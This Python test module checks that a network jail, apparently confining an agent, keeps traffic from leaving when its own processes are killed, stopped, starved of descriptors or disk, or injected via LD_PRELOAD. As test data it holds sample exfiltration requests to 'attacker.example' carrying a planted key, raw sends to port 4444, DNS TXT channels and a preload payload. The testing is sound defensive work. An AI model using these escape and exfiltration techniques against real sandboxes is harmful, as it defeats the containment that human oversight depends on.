"""Violence to our own processes (rows 45, 46, 50): whatever happens to them, nothing gets out.

A scene starts a jail, does something to one of its processes, and has the agent try again, in
ways that the jail allows and in ways that it refuses. Beside the jail the same tries arrive.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from netns.escapes.play import Channel, PlayError
from netns.escapes.report import Line
from tests.escape.stage import SHARED, LabStage
from tests.lab.world import DEV_UID

_NET_ADMIN = 1 << 12
_FEW = 80
_CLOSE = "Connection: close\r\n\r\n"
_ALLOWED: dict[str, Any] = {
    "program": "web.say",
    "args": {
        "dial": "api.example.com",
        "text": f"GET /get?n=NONCE HTTP/1.1\r\nHost: api.example.com\r\n{_CLOSE}",
    },
}
_LEAK: dict[str, Any] = {
    "program": "web.say",
    "args": {
        "dial": "attacker.example",
        "text": f"GET /get?n=NONCE&k=PLANTED HTTP/1.1\r\nHost: attacker.example\r\n{_CLOSE}",
    },
}
_REFUSED: tuple[dict[str, Any], ...] = (
    _LEAK,
    {"program": "packets.tcp", "args": {"port": 4444}},
    {"program": "packets.udp", "args": {"port": 4444}},
    {"program": "services.dns", "args": {"server": "resolver4", "type": "TXT"}},
)


class Roles(NamedTuple):
    """Processes of a jail, as this process numbers them; 0 for one that is not there."""

    supervisor: int
    interceptor: int = 0
    guard: int = 0
    witness: int = 0
    enclosure: int = 0


def roles(channel: Channel) -> Roles:
    """Find the processes of a jail: who they are says what they are."""
    (supervisor,) = _children(channel.process.pid)
    found = {}
    for pid in _children(supervisor):
        with contextlib.suppress(OSError):
            rows = dict(
                row.split(":\t", 1)
                for row in Path(f"/proc/{pid}/status").read_text("ascii").splitlines()
                if ":\t" in row
            )
            uid, held = int(rows["Uid"].split()[0]), int(rows["CapEff"], 16)
            if rows["Name"] == "bwrap":
                found["enclosure"] = pid
            elif uid == DEV_UID:
                found["witness"] = pid
            elif held == _NET_ADMIN:
                found["guard"] = pid
            elif uid:
                found["interceptor"] = pid
    return Roles(supervisor, **found)


def _children(pid: int) -> list[int]:
    text = Path(f"/proc/{pid}/task/{pid}/children").read_text("ascii")
    return [int(word) for word in text.split()]


@dataclasses.dataclass(frozen=True)
class _Scene:
    row: int
    id: str
    title: str
    act: Callable[[Roles], str]
    """Does it; returns why it cannot be done here, or an empty text."""
    offline: bool = True
    """Not even what the policy allows may leave afterwards."""

    def __call__(self, stage: LabStage) -> Line:
        channel, evidence, _ = stage.jail("user")
        try:
            first = _drawn()
            channel.ask(_order(_ALLOWED, first))
            cannot = self.act(roles(channel))
            time.sleep(0.2)
            tries = [*_REFUSED, *([_ALLOWED] if self.offline else [])]
            made = [(_drawn(), each) for each in tries]
            saw = [_try(channel, each, nonce) for nonce, each in made]
        finally:
            _end(channel)
        beside = [(_drawn(), each) for each in tries]
        for nonce, each in beside:
            stage.controls["user"].ask(_order(each, nonce))
        time.sleep(0.4)
        seen = stage.seen([first, *(nonce for nonce, _ in (*made, *beside))])
        arrived = [where for nonce, _ in made for where in seen.get(nonce, ())]
        controls = [nonce in seen for nonce, _ in beside]
        good = first in seen and all(controls)
        verdict = "escaped" if arrived else "held" if good else "no control"
        blocks = evidence.fresh()
        return Line(
            row=self.row,
            id=self.id,
            title=self.title,
            without=f"{sum(controls)} of {len(controls)} tries arrived",
            control_user="user",
            within=", ".join(sorted(set(arrived))) or "nothing",
            saw="; ".join(dict.fromkeys(saw)),
            event=str(blocks[-1]["reason"]) if blocks else "",
            modes={"user": "not applicable" if cannot else verdict},
            verdict="not applicable" if cannot else verdict,
            reason=cannot,
        )


def _drawn() -> str:
    return f"egx{os.urandom(8).hex()}"


def _order(each: dict[str, Any], nonce: str, seconds: float = 1.5) -> dict[str, Any]:
    return {"id": nonce, "nonce": nonce, "seconds": seconds, **each}


def _try(channel: Channel, each: dict[str, Any], nonce: str) -> str:
    try:
        return str(channel.ask(_order(each, nonce))["saw"])
    except PlayError:
        return "the agent has ended"


def _end(channel: Channel) -> None:
    """End a jail, whatever state it is in: with its supervisor everything ends."""
    with contextlib.suppress(OSError, ValueError):
        for pid in _children(channel.process.pid):
            os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(BrokenPipeError):
        channel.close(10.0)


def _sent(role: str, number: signal.Signals) -> Callable[[Roles], str]:
    def act(found: Roles) -> str:
        pid = getattr(found, role)
        if not pid:
            return f"this jail has no {role}"
        os.kill(pid, number)
        return ""

    return act


def few_descriptors(stage: LabStage) -> Line:
    """Exhaust the interceptor's descriptors with connections, then leak."""
    crowd = {**_LEAK, "program": "web.crowd"}
    made, beside = _drawn(), _drawn()
    channel, evidence, _ = stage.jail("user", descriptors=_FEW)
    try:
        saw = str(channel.ask(_order(crowd, made, 14.0))["saw"])
    except PlayError:
        saw = "the agent has ended"
    finally:
        _end(channel)
    stage.controls["user"].ask(_order(crowd, beside, 14.0))
    time.sleep(0.4)
    seen = stage.seen([made, beside])
    verdict = "escaped" if made in seen else "held" if beside in seen else "no control"
    return Line(
        row=50,
        id="descriptors",
        title=f"a leak behind 300 connections, with {_FEW} descriptors for the interceptor",
        without=", ".join(seen.get(beside, ["nothing"])),
        control_user="user",
        within=", ".join(seen.get(made, ["nothing"])),
        saw=saw,
        event=next((str(each["reason"]) for each in evidence.fresh()), ""),
        modes={"user": verdict},
        verdict=verdict,
    )


def full_disk(stage: LabStage) -> Line:
    """Nothing leaves without a line of evidence, and there is no room for lines."""
    small = "/run/egx-small"
    script = f"mkdir -p {small} && mount -t tmpfs -o size=8k tmpfs {small}"
    stage.lab.run(["sh", "-c", script])
    nonces = [_drawn() for _ in range(40)]
    try:
        channel, _, _ = stage.jail("user", evidence=f"{small}/evidence.jsonl")
        saw = [_try(channel, _ALLOWED, nonce) for nonce in nonces]
        leak = _drawn()
        _try(channel, _LEAK, leak)
        _end(channel)
        lines = stage.lab.path(f"{small}/evidence.jsonl").read_bytes().count(b'"allow"')
    finally:
        stage.lab.run(["sh", "-c", f"umount -l {small}; rmdir {small}"])
    time.sleep(0.4)
    arrived = stage.seen([*nonces, leak])
    beyond = len(arrived) - lines
    stopped = any("503" in each for each in saw)
    good = beyond <= 0 and stopped and leak not in arrived
    return Line(
        row=46,
        id="full-disk",
        title="no room for evidence",
        without=f"{len(arrived)} of {len(nonces)} arrived before the disk was full",
        control_user="user",
        within="nothing" if beyond <= 0 else f"{beyond} more than lines",
        saw=saw[-1],
        event="",
        modes={"user": "held" if good else "escaped"},
        verdict="held" if good else "escaped",
    )


_EARLY = """
import socket, sys
while True:
    for family, where in ((socket.AF_INET, "9.9.9.9"), (socket.AF_INET6, "2d00:99::1")):
        try:
            socket.socket(family, socket.SOCK_DGRAM).sendto(sys.argv[1].encode(), (where, 4444))
            end = socket.socket(family)
            end.settimeout(0.2)
            end.connect((where, 4444))
            end.sendall(sys.argv[1].encode())
        except OSError:
            pass
    if len(sys.argv) > 2:
        break
"""


def start_race(stage: LabStage) -> Line:
    """Kill one of our processes at some moment of the start; the agent sends at once."""
    control, nonces = _drawn(), []
    stage.lab.run(["/usr/bin/python3", "-I", "-S", "-c", _EARLY, control, "once"], user="dev")
    ends = []
    for number, victim in enumerate(("supervisor", "child", "last", "none") * 2):
        nonces.append(_drawn())
        program = stage.lab.start_jail(["/usr/bin/python3", "-I", "-S", "-c", _EARLY, nonces[-1]])
        time.sleep(0.05 + 0.12 * number)
        with contextlib.suppress(OSError, ValueError, IndexError):
            (supervisor,) = _children(program.pid)
            children = _children(supervisor)
            target = {"supervisor": supervisor, "child": children[0], "last": children[-1]}
            if victim in target:
                os.kill(target[victim], signal.SIGKILL)
        time.sleep(0.1)
        with contextlib.suppress(OSError, ValueError):
            for pid in _children(program.pid):
                os.kill(pid, signal.SIGKILL)
        program.communicate(timeout=20)
        ends.append(program.returncode)
    time.sleep(0.4)
    seen = stage.seen([control, *nonces])
    arrived = [where for nonce in nonces for where in seen.get(nonce, ())]
    verdict = "escaped" if arrived else "held" if control in seen else "no control"
    return Line(
        row=45,
        id="start-race",
        title=f"{len(nonces)} starts, killed at different moments",
        without=", ".join(seen.get(control, ["nothing"])),
        control_user="user",
        within=", ".join(sorted(set(arrived))) or "nothing",
        saw=f"exit codes {sorted(set(ends))}",
        event="",
        modes={"user": verdict},
        verdict=verdict,
    )


_PRELOADED = """
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void loaded(void) {
    int end = open(PLACE, O_WRONLY | O_APPEND);
    if (end >= 0) { (void)!write(end, NONCE, strlen(NONCE)); close(end); }
}
"""


def preload(stage: LabStage) -> Line:
    """LD_PRELOAD for the agent, which only the agent's own programs may follow."""
    control, inside = _drawn(), _drawn()
    compiled = ""
    for nonce in (control, inside):
        source = f"{SHARED}/{nonce}.c"
        stage.lab.path(source).write_text(_PRELOADED)
        defined = [f'-DNONCE="{nonce}"', f'-DPLACE="{SHARED}/left-open"']
        command = ["gcc", "-shared", "-fPIC", "-o", f"{SHARED}/{nonce}.so", *defined, source]
        try:
            done = stage.lab.run(command)
            compiled = done.stderr.decode("utf-8", "replace") if done.returncode else compiled
        except OSError as error:
            compiled = str(error)
    stage.lab.run(["true"], user="dev", env={"LD_PRELOAD": f"{SHARED}/{control}.so"})
    done = stage.lab.jail(["cat", "/proc/self/maps"], "--env", f"LD_PRELOAD={SHARED}/{inside}.so")
    loaded = inside in done.text
    seen = stage.seen([control, inside])
    verdict = (
        "escaped" if inside in seen else "held" if control in seen and loaded else "no control"
    )
    reason = compiled and "no gcc"
    return Line(
        row=44,
        id="preload",
        title="LD_PRELOAD into our processes",
        without=", ".join(seen.get(control, ["nothing"])),
        control_user="user",
        within=", ".join(seen.get(inside, ["nothing"])),
        saw="loaded by the agent alone" if loaded else "not loaded",
        event="",
        modes={"user": verdict},
        verdict="not applicable" if reason else verdict,
        reason=reason,
    )


_LATE = """
import os, socket, sys
end = socket.socket(socket.AF_UNIX)
end.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
end.listen()
print("ready", flush=True)
while True:
    print(end.accept()[0].recv(100).decode(), flush=True)
"""


def late_socket(stage: LabStage) -> Line:
    """A socket that a program of the host binds, in a place the jail shows, while the jail runs.

    What was bound before is found and hidden. What comes later is not (`netns.unix_sockets`): no
    filter can read a path, and no mount option refuses connect(2).
    """
    path = f"{SHARED}/late-{_drawn()}.sock"
    made, beside = _drawn(), _drawn()
    channel, _, _ = stage.jail("user")
    listener = stage.lab.popen(["/usr/bin/python3", "-I", "-S", "-c", _LATE, path])
    try:
        assert listener.stdout is not None
        assert listener.stdout.readline() == b"ready\n"
        dial = {"program": "local.stream", "args": {"path": path}}
        stage.controls["user"].ask(_order(dial, beside))
        saw = _try(channel, dial, made)
    finally:
        _end(channel)
        listener.kill()
    heard = listener.communicate()[0].decode()
    held = "held" if beside in heard else "no control"
    verdict = "known limit" if made in heard else held
    return Line(
        row=1,
        id="late-socket",
        title="a socket bound in a shown place while the jail runs",
        without="its listener" if beside in heard else "nothing",
        control_user="user",
        within="its listener" if made in heard else "nothing",
        saw=saw,
        event="",
        modes={"user": verdict},
        verdict=verdict,
    )


_KILL, _STOP = signal.SIGKILL, signal.SIGSTOP

SCENES: list[Callable[[LabStage], Line]] = [
    late_socket,
    preload,
    start_race,
    _Scene(
        46,
        "kill-interceptor",
        "kill -9 of the interceptor, as when memory ends",
        _sent("interceptor", _KILL),
    ),
    _Scene(46, "stop-interceptor", "SIGSTOP of the interceptor", _sent("interceptor", _STOP)),
    _Scene(46, "kill-supervisor", "kill -9 of the supervisor", _sent("supervisor", _KILL)),
    _Scene(46, "kill-enclosure", "kill -9 of the enclosure", _sent("enclosure", _KILL)),
    _Scene(46, "kill-guard", "kill -9 of the packet guard", _sent("guard", _KILL), offline=False),
    _Scene(46, "kill-witness", "kill -9 of the witness", _sent("witness", _KILL), offline=False),
    full_disk,
    few_descriptors,
]
